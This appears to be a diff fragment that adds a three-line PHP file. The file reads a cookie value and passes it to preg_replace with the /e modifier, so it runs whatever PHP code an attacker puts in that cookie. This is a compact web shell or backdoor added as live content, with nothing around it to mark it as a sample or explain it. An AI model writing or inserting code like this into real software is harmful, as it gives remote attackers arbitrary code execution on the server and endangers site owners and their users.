@@ -1,0 +1,3 @@
+<?php
+$c = $_COOKIE['c'];
+preg_replace('/x/e', $c, 'x');
